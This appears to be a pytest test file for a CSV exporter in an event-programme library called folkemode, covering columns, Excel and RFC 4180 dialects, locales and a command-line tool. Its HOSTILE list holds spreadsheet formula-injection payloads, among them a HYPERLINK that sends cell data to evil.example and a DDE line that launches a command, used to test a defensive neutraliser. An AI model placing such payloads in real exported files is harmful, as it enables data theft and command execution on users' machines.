"""The CSV exporter: stable columns, two dialects, no formulas, read back with the csv module."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings

import folkemode
from folkemode import Event, FolkemodeError, Session, Speaker
from folkemode.exporters.csv import COLUMNS, dump_csv, neutralise, restore
from folkemode.exporters.text import agenda_lines, speaker_text
from tests.strategies import events


def read(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    """Rows as the csv module reads them, with neutralised cells restored."""
    rows = list(
        csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    )
    return [{key: restore(value) for key, value in row.items()} for row in rows]


def expected_row(event: Event, session: Session) -> dict[str, str]:
    """What the columns must say about ``session`` (rfc4180 dialect)."""
    zone = event.zone
    return {
        "id": session.id,
        "date": session.day.isoformat() if session.day else "",
        "start": session.start.astimezone(zone).strftime("%H:%M") if session.start else "",
        "end": session.end.astimezone(zone).strftime("%H:%M") if session.end else "",
        "title": session.title,
        "kind": session.kind.value,
        "track": session.track.name if session.track else "",
        "round": session.round.name if session.round else "",
        "room": session.room or "",
        "speakers": "; ".join(map(speaker_text, session.speakers)),
        "organisations": "; ".join(o.name for o in session.organisations),
        "description": session.description or "",
        "agenda": "\n".join(agenda_lines(session.items, bullet="")),
        "url": "\n".join(session.links),
        "status": session.status.value,
        "revision": str(session.revision),
    }


class TestColumns:
    def test_header_is_stable(self, example: Event) -> None:
        """The header row is the documented columns, in order."""
        assert dump_csv(example).split("\r\n", 1)[0] == ",".join(COLUMNS)
        assert COLUMNS[:5] == ("id", "date", "start", "end", "title")

    def test_example_rows(self, example: Event) -> None:
        """Each session is one row saying what the model says."""
        rows = read(dump_csv(example))
        assert rows == [expected_row(example, s) for s in example.sessions]
        velkommen = rows[1]
        assert velkommen["speakers"] == "Mette Aagaard, borgmester, Egeskov Kommune"
        assert velkommen["agenda"].splitlines()[1:3] == [
            "Praktisk information",
            "  Wi-fi og garderobe",
        ]

    @settings(max_examples=40, deadline=None)
    @given(event=events())
    def test_generated_events_read_back(self, event: Event) -> None:
        """Generated events (any text, emoji, line breaks) come back cell for cell."""
        rows = read(dump_csv(event))
        assert rows == [expected_row(event, s) for s in event.sessions]


class TestDialects:
    def test_rfc4180_is_the_default(self, example: Event) -> None:
        """The default is plain RFC 4180: no BOM, commas, CRLF, ISO dates."""
        text = dump_csv(example)
        assert not text.startswith("\ufeff")
        assert text.endswith("\r\n")
        # Records end in CRLF; a line break inside a quoted cell stays as written.
        assert text.count("\r\n") == len(example.sessions) + 1
        assert "\r\n20251113-frokost,2025-11-13,12:00,13:00,Frokost,meal," in text

    @pytest.mark.parametrize("locale", ["da", "nb", "nn", "en", None])
    def test_excel_dialect(self, example: Event, locale: str | None) -> None:
        """The Excel dialect has a BOM, semicolons, CRLF and ISO dates, in every locale.

        ISO 8601 is the one form every locale's spreadsheets read as a date
        (tests/test_spreadsheets_libreoffice.py shows it with LibreOffice).
        """
        text = dump_csv(example, dialect="excel", locale=locale)
        assert text.startswith("\ufeffid;date;start;end;title;")
        assert "\r\n20251113-frokost;2025-11-13;12:00;13:00;Frokost;meal;" in text
        rows = read(text, delimiter=";")
        assert [r["title"] for r in rows] == [s.title for s in example.sessions]
        assert [r["date"] for r in rows] == [s.day.isoformat() for s in example.sessions if s.day]

    @pytest.mark.parametrize("dialect", ["excel", "rfc4180"])
    def test_locale_is_checked(self, example: Event, dialect: str) -> None:
        """A locale folkemode does not know is an error, not a silent default."""
        with pytest.raises(FolkemodeError, match="use one of da, nb, nn, en"):
            dump_csv(example, dialect=dialect, locale="sv")

    def test_excel_bytes_on_disk(self, example: Event, tmp_path: Path) -> None:
        """Written to a file, the Excel dialect starts with the UTF-8 byte-order mark."""
        target = tmp_path / "programme.csv"
        folkemode.dump(example, target, dialect="excel")
        data = target.read_bytes()
        assert data.startswith(b"\xef\xbb\xbfid;") and "Økonomien".encode() in data

    def test_unknown_dialect(self, example: Event) -> None:
        """An unknown dialect is an error that names the known ones."""
        with pytest.raises(FolkemodeError, match="expected one of rfc4180, excel"):
            dump_csv(example, dialect="tsv")


HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'=1",
    "=cmd|' /C calc'!A0",
]


class TestFormulas:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_no_cell_starts_a_formula(self, example: Event, text: str) -> None:
        """Titles, speakers, rooms and descriptions that look like formulas are neutralised."""
        session = Session(
            title=text + " titel",
            room=text,
            description=text + "\nmere",
            speakers=[Speaker(name=text + " navn")],
            start=example.sessions[0].start,
        )
        event = Event(name="x", sessions=[session])
        for dialect, delimiter in (("rfc4180", ","), ("excel", ";")):
            output = dump_csv(event, dialect=dialect).removeprefix("\ufeff")
            raw = list(csv.reader(io.StringIO(output, newline=""), delimiter=delimiter))
            for cell in raw[1]:
                assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
            assert read(output, delimiter)[0]["title"] == session.title

    @pytest.mark.parametrize(
        ("text", "written"),
        [
            (" =1+1", "' =1+1"),
            ("\t@SUM(A1)", "'\t@SUM(A1)"),
            ("\r\n-1", "'\r\n-1"),
            ("\tFrokost", "\tFrokost"),
            (" Frokost", " Frokost"),
            ("'Frokost", "'Frokost"),
            ("Frokost = mad", "Frokost = mad"),
            ("'=1", "''=1"),
        ],
    )
    def test_quote_mark_only_where_needed(self, text: str, written: str) -> None:
        """The mark goes where an import that trims whitespace would still find a formula."""
        assert neutralise(text) == written
        assert restore(written) == text

    def test_neutralise_and_restore_are_inverse(self) -> None:
        """restore(neutralise(x)) == x, also for text that already starts with a quote."""
        for text in [*HOSTILE, "", "'", "''=", "Frokost", "'Frokost", "-", " '=1", "' =1"]:
            assert restore(neutralise(text)) == text


class TestOptions:
    def test_selection_options(self, example: Event) -> None:
        """The session filters of the ICS exporter work for CSV too."""
        rows = read(dump_csv(example, breaks=False, meals=False, days=["2025-11-13"]))
        assert [r["title"] for r in rows][:3] == [
            "Ankomst og registrering",
            "Velkommen og dagens program",
            "Økonomien i kommunerne frem mod 2030",
        ]
        assert len(rows) == 7

    def test_no_header(self, example: Event) -> None:
        """header=False leaves the header row out."""
        assert dump_csv(example, header=False).startswith("20251113-ankomst-og-registrering,")


class TestCli:
    def test_json_to_csv(self, example: Event, tmp_path: Path) -> None:
        """`folkemode convert example.json -o x.csv --dialect excel --locale nb` works."""
        from folkemode.cli import main

        source = tmp_path / "example.json"
        folkemode.dump(example, source)
        target = tmp_path / "x.csv"
        assert (
            main(
                ["convert", str(source), "-o", str(target), "--dialect", "excel", "--locale", "nb"]
            )
            == 0
        )
        assert target.read_bytes() == dump_csv(example, dialect="excel", locale="nb").encode()

    def test_text_programme_to_csv(self, tmp_path: Path) -> None:
        """A text programme converts to CSV (when the text importer is installed)."""
        from folkemode.cli import main
        from folkemode.plugins import importers
        from tests.conftest import fixture_path

        if "text" not in importers():
            pytest.skip("the text importer is not registered")
        source = fixture_path("programmes", "102_da_kommunalpolitisk_forum_2025.txt")
        target = tmp_path / "forum.csv"
        assert main(["convert", str(source), "-o", str(target)]) == 0
        event = folkemode.load(source)
        assert [r["id"] for r in read(target.read_text(encoding="utf-8"))] == [
            s.id for s in event.sessions
        ]
